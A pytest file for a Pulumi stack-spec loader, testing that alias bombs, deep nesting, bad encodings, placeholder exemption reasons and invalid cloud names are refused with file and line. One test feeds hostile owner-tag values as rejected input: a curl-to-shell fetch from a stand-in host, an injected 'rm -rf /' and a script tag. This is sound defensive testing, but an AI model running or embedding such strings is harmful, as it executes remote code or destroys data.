"""Hostile and careless stack files: refused at the door with file, line and the fix, never a hang,
a traceback or a non-reason accepted."""

from __future__ import annotations

import datetime as dt
import re
from pathlib import Path

import pytest

from hardstack.spec import SpecError, load, loads
from hardstack.spec.loader import MAX_DEPTH, MAX_SPEC_BYTES

REPO = Path(__file__).resolve().parents[1]
AWS = REPO / "stacks" / "Pulumi.aws-prod-eu.yaml"
AWS_FILE = Path("stacks/Pulumi.aws-prod-eu.yaml")


def issues_of(text: str, file: Path = AWS_FILE) -> list:
    with pytest.raises(SpecError) as caught:
        loads(text, file)
    return caught.value.issues


def aws_text() -> str:
    return AWS.read_text(encoding="utf-8")


# --- the door: size, bytes, anchors, depth ----------------------------------------------------


def test_alias_bomb_refused_at_its_first_anchor() -> None:
    # Small enough that even an expanding loader would finish: the assertion is the refusal.
    bomb = "config:\n  hardstack:environment:\n    name: &a [x, x, x]\n"
    for level in range(1, 5):
        prev = "a" if level == 1 else f"a{level - 1}"
        bomb += f"    n{level}: &a{level} [{', '.join([f'*{prev}'] * 3)}]\n"
    (issue,) = issues_of(bomb)
    assert issue.line == 3
    assert "anchors and aliases are not allowed" in issue.message and "&a" in issue.message


def test_anchor_outside_the_spec_refused_too() -> None:
    text = aws_text().replace("    owner: ml-platform\n", "    owner: *who\n")
    text = text.replace("config:\n", "x: &who ml-platform\nconfig:\n", 1)
    (issue,) = issues_of(text)
    assert issue.line == text.splitlines().index("x: &who ml-platform") + 1
    assert "anchor (&who)" in issue.message


def test_nesting_deeper_than_a_spec_needs_refused() -> None:
    deep = "[" * (MAX_DEPTH + 4) + "]" * (MAX_DEPTH + 4)
    (issue,) = issues_of(f"config:\n  hardstack:environment:\n    name: {deep}\n")
    assert issue.line == 3 and f"more than {MAX_DEPTH} levels" in issue.message


def test_oversized_file_refused_without_parsing(tmp_path: Path) -> None:
    big = tmp_path / "Pulumi.aws-prod-eu.yaml"
    big.write_text(aws_text() + "#" + "x" * MAX_SPEC_BYTES + "\n", encoding="utf-8")
    with pytest.raises(SpecError) as caught:
        load(big)
    (issue,) = caught.value.issues
    assert f"at most {MAX_SPEC_BYTES:,}" in issue.message and issue.file == big


def test_non_utf8_file_refused_at_the_line_of_the_bad_byte(tmp_path: Path) -> None:
    latin = tmp_path / "Pulumi.aws-prod-eu.yaml"
    latin.write_bytes(aws_text().replace("owner: ml-platform", "owner: équipe").encode("latin-1"))
    with pytest.raises(SpecError) as caught:
        load(latin)
    (issue,) = caught.value.issues
    assert issue.line == aws_text().splitlines().index("    owner: ml-platform") + 1
    assert "0xe9 is not UTF-8" in issue.message and "save the file as UTF-8" in issue.message


def test_nul_byte_refused_with_its_line(tmp_path: Path) -> None:
    nul = tmp_path / "Pulumi.aws-prod-eu.yaml"
    nul.write_bytes(aws_text().encode() + b"\0")
    with pytest.raises(SpecError) as caught:
        load(nul)
    (issue,) = caught.value.issues
    assert "NUL byte" in issue.message and issue.line == aws_text().count("\n") + 1


def test_duplicate_keys_stay_refused() -> None:
    text = aws_text().replace("    owner: ml-platform\n", "    owner: ml-platform\n    owner: someone-else\n")
    (issue,) = issues_of(text)
    assert "duplicate" in issue.message.lower()


def test_validate_cli_reports_a_bomb_as_an_invalid_spec(tmp_path: Path, runner) -> None:
    from hardstack.cli import main

    stack = tmp_path / "Pulumi.bomb.yaml"
    stack.write_text("config:\n  hardstack:environment:\n    name: &a [x]\n    b: [*a, *a]\n")
    result = runner.invoke(main, ["validate", str(stack)])
    assert result.exit_code == 1
    assert f"{stack}:3:" in result.output + result.stderr and "Traceback" not in result.output


# --- the name is the stack's ------------------------------------------------------------------


def test_spec_name_must_be_the_stack_files_name() -> None:
    (issue,) = issues_of(aws_text(), Path("stacks/Pulumi.prod-eu.yaml"))
    assert issue.field == "name"
    assert issue.line == aws_text().splitlines().index("    name: aws-prod-eu") + 1
    assert "set name: prod-eu" in issue.message and "Pulumi.aws-prod-eu.yaml" in issue.message


# --- exemption reasons, expiry and approval ---------------------------------------------------


def _first_reason(text: str, reason: str) -> str:
    start = text.index("        reason: >-\n")
    end = text.index("        expires:", start)
    return text[:start] + f"        reason: {reason}\n" + text[end:]


@pytest.mark.parametrize(("reason", "said"), [
    ("'                              '", "four different words"),
    ("'TODO: write the reason before the review, really soon now'", "'todo' marks a reason"),
    ("'n/a n/a n/a n/a n/a n/a n/a n/a n/a n/a'", "'n/a' marks a reason"),
    ("'later later later later later later'", "four different words"),
    ("'FIXME'", "'fixme' marks a reason"),
])
def test_placeholder_reasons_refused(reason: str, said: str) -> None:
    text = _first_reason(aws_text(), reason)
    (issue,) = issues_of(text)
    assert issue.field == "exemptions[0].reason" and said in issue.message


def test_reasons_are_kept_with_their_white_space_folded() -> None:
    text = _first_reason(aws_text(), "'   S3 delivers access logs only to   SSE-S3 buckets.   '")
    env = loads(text, AWS_FILE).environment
    assert env.exemptions[0].reason == "S3 delivers access logs only to SSE-S3 buckets."


def test_expiry_beyond_the_horizon_refused_with_the_latest_date(monkeypatch: pytest.MonkeyPatch) -> None:
    far = (dt.date.today() + dt.timedelta(days=800)).isoformat()
    text = aws_text().replace("expires: 2027-11-30", f"expires: {far}", 1)
    (issue,) = issues_of(text)
    latest = (dt.date.today() + dt.timedelta(days=366)).isoformat()
    assert issue.field == "exemptions[0].expires" and f"expire it by {latest}" in issue.message
    monkeypatch.setenv("HARDSTACK_EXEMPTION_HORIZON_DAYS", "1000")  # a looser policy, said explicitly
    assert loads(text, AWS_FILE).environment.exemptions[0].expires.isoformat() == far


def test_gdpr_and_hipaa_exemptions_name_their_approver() -> None:
    text = aws_text().replace("        approved_by: secops@example.com\n", "", 1)
    (issue,) = issues_of(text)
    assert issue.field == "exemptions[0].approved_by" and "gdpr and hipaa" in issue.message
    placeholder = aws_text().replace("approved_by: secops@example.com", "approved_by: TBD", 1)
    assert issues_of(placeholder)[0].field == "exemptions[0].approved_by"


def test_no_approver_needed_without_gdpr_or_hipaa(example_spec, spec) -> None:
    raw = example_spec("aws")
    raw["compliance"] = []
    for exemption in raw["exemptions"]:
        exemption.pop("approved_by")
    assert spec.valid(raw).exemptions[0].approved_by is None


def test_expired_confidential_exemption_is_named_as_expired(example_spec, spec) -> None:
    raw = example_spec("gcp")
    raw["workloads"][0]["confidential"] = "none"
    raw["workloads"][0]["machine_type"] = "n2-standard-8"
    raw["exemptions"] = [spec.exemption("confidential-computing", raw["workloads"][0]["name"], "2026-01-31")]
    issue = spec.issue_at(spec.issues(raw), "workloads[0].confidential")
    assert "expired on 2026-01-31" in issue.message
    assert re.search(r"review it and set a new expires", issue.message)


def test_expired_transfer_exemption_is_named_as_expired(example_spec, spec) -> None:
    raw = example_spec("aws")
    raw["region"] = "us-east-2"
    raw["exemptions"] = [spec.exemption("gdpr-data-residency", raw["name"], "2025-12-31")]
    issue = spec.issue_at(spec.issues(raw), "region")
    assert "outside the EU/EEA" in issue.message and "expired on 2025-12-31" in issue.message


# --- names the cloud would refuse ------------------------------------------------------------


def test_environment_name_the_clouds_refuse_is_charged_to_name_once(example_spec, spec) -> None:
    raw = example_spec("aws")
    raw["name"] = "xn--prod"
    issues = spec.issues(raw)
    s3 = [i for i in issues if "S3 bucket name" in i.message]
    assert {i.field for i in s3} == {"name"}  # not repeated on every bucket
    assert "starts with 'xn--'" in s3[0].message and "bucketnamingrules" in s3[0].message
    assert any(i.field == "name" and "CloudTrail trail name" in i.message for i in issues)  # '--'


def test_adjacent_dashes_break_the_trail_name(example_spec, spec) -> None:
    raw = example_spec("aws")
    raw["name"] = "ml--prod"
    issue = spec.issue_at(spec.issues(raw), "name")
    assert "'ml--prod-audit'" in issue.message and "contains '--'" in issue.message


def test_bucket_name_google_refused_on_gcp_at_the_bucket(example_spec, spec) -> None:
    raw = example_spec("gcp")
    raw["data"]["buckets"][0]["name"] = "google-data"
    issue = spec.issue_at(spec.issues(raw), "data.buckets[0].name")
    assert "Cloud Storage bucket name" in issue.message and "contains 'google'" in issue.message


def test_gcp_project_id_with_google_refused(example_spec, spec) -> None:
    raw = example_spec("gcp")
    raw["account"] = "google-ml-4711"
    assert "may not contain 'google'" in spec.issue_at(spec.issues(raw), "account").message


@pytest.mark.parametrize("owner", ["$(curl evil.example | sh)", "a" * 64, "team;rm -rf /", "<script>"])
def test_owner_tag_value_outside_the_tag_character_set_refused(owner: str) -> None:
    text = aws_text().replace("owner: ml-platform", f"owner: '{owner}'")
    (issue,) = issues_of(text)
    assert issue.field == "owner" and issue.line == text.splitlines().index(f"    owner: '{owner}'") + 1


@pytest.mark.parametrize("cloud", ["aws", "gcp"])
def test_names_validation_checks_are_the_names_the_blueprints_build(cloud: str, example_paths, rendered) -> None:
    from hardstack.spec import names

    loaded = load(example_paths[cloud])
    env = loaded.environment
    graph = rendered(env, loaded.stack)  # render(loaded).graph, rendered once per session
    built = {str(r.inputs.get(key)) for r in graph for key in ("bucket", "name", "roleName") if r.inputs.get(key)}
    derived = names.derived_names(cloud, env.name, env.account, [(i, b.name) for i, b in enumerate(env.data.buckets)],
                                  [(i, w.name) for i, w in enumerate(env.workloads)])
    assert derived
    missing = [name for name, _, _ in derived if name not in built]
    assert not missing, missing


def test_azure_block_set_to_null_is_refused_not_a_traceback(example_spec, spec) -> None:
    # Found by the deep fuzz profile: the model refused `azure: null` while the partial view took
    # the key as given, so validation reported nothing and failed an assertion.
    raw = example_spec("azure")
    raw["azure"] = None
    issue = spec.issue_at(spec.issues(raw), "azure")
    assert "Confidential VM Orchestrator" in issue.message
